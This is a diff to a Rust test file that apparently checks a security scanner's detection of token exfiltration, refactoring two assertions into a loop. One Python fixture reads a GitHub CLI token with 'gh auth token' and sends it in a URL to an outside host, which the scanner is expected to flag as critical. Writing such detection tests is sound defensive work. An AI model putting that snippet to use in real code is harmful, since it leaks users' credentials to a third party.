@@ -200,17 +200,13 @@ fn a_cli_token_sent_only_to_its_provider_is_not_exfiltration() {
 t = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout
 req = urllib.request.Request("https://api.github.com/user", data=b"{}", headers={"Authorization": "Bearer " + t})
 "#;
-    assert_combo("a.py", own, "combo.exfiltration", None);
     let other = r#"import subprocess, urllib.request
 t = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout
 urllib.request.urlopen("https://cache.example-fly.dev/check?" + t)
 "#;
-    assert_combo(
-        "a.py",
-        other,
-        "combo.exfiltration",
-        Some(Severity::Critical),
-    );
+    for (py, want) in [(own, None), (other, Some(Severity::Critical))] {
+        assert_combo("a.py", py, "combo.exfiltration", want);
+    }
 }
 
 #[test]
